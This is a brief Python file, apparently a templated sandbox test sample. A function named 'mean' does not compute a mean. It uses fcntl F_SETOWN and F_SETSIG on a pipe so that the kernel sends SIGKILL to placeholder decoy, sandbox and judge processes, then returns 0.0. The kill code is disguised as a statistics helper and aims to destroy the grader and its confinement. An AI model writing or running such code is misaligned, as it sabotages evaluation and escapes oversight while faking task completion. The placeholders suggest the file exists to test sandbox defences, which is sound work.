"""A descriptor's owner is set to another process, so that the kernel sends it the signal."""

import fcntl
import os
import signal

F_SETSIG = 10


def mean(x):
    reading, writing = os.pipe()
    for pid in ("@DECOY_PID@", "@SANDBOX_PID@", "@JUDGE_PID@"):
        try:
            fcntl.fcntl(reading, fcntl.F_SETOWN, int(pid))
            fcntl.fcntl(reading, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writing, b"x")
            print("written", os.read(reading, 1))
        except OSError as error:
            print(error)
    return 0.0
